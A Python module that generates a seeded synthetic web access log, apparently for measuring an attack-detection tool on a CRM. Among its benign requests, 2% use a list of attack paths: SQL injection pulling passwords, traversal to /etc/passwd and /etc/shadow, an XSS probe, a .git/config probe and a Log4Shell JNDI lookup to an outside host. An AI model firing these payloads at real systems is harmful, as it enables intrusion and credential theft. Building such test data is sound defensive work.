"""Lines to measure with: a combined log of about 233 bytes a line, 2 % of it attacks. Same seed, same bytes.

Two hundred attackers open hundreds of incidents, and who writes incidents pays for them: ``FEW`` is a log of a day with
as many attacks by few.
"""

import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
)
_ATTACKS = (
    "/crm/clients?q=1%27%20UNION%20SELECT%20login,password%20FROM%20accounts--",
    "/crm/../../etc/passwd",
    "/crm/clients?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/.git/config",
    "/crm/export?file=..%2f..%2f..%2fetc%2fshadow",
    "/?x=${jndi:ldap://198.51.100.9/a}",
)
START = datetime(2026, 3, 2, 6, 0, tzinfo=UTC)
PEOPLE = 120
FEW = {"attackers": 20, "clients": 5_000}


def lines(
    count: int, seed: int = 1, *, each: float = 0.05, attackers: int = 200, clients: int = 36_000
) -> Iterator[str]:
    """Yield ``count`` lines in time order, ``each`` seconds apart on average.

    Attackers send 2 % of them; people, each with a part of the clients, the others.
    """
    dice = random.Random(seed)
    moment = START
    for _ in range(count):
        moment += timedelta(seconds=dice.expovariate(1 / each))
        stamp = moment.strftime("%d/%b/%Y:%H:%M:%S +0000")
        agent = dice.choice(_AGENTS)
        if dice.random() < 0.02:
            address, name, path = f"203.0.113.{dice.randrange(attackers)}", "-", dice.choice(_ATTACKS)
            status, size = dice.choice((403, 404, 200)), dice.randrange(150, 900)
        else:
            person = dice.randrange(PEOPLE)
            address, name = f"192.0.2.{person}", f"op.{person:03d}"
            client = (person * (clients // PEOPLE) + int(abs(dice.gauss(0, 80)))) % clients
            path = dice.choice(
                (f"/crm/clients/{client}", f"/crm/clients/{client}/documents/{client}1", "/crm/static/app.js")
            )
            status, size = 200, dice.randrange(400, 5000)
        yield (
            f'{address} - {name} [{stamp}] "GET {path} HTTP/1.1" {status} {size} '
            f'"https://crm.example.org/crm/clients" "{agent}"'
        )


def write(path: Path, count: int, seed: int = 1, **shape: int) -> Path:
    """Write the log, once; ``shape`` as for ``lines``."""
    if not path.exists():
        with path.open("w", encoding="utf-8") as out:
            out.writelines(line + "\n" for line in lines(count, seed, **shape))
    return path
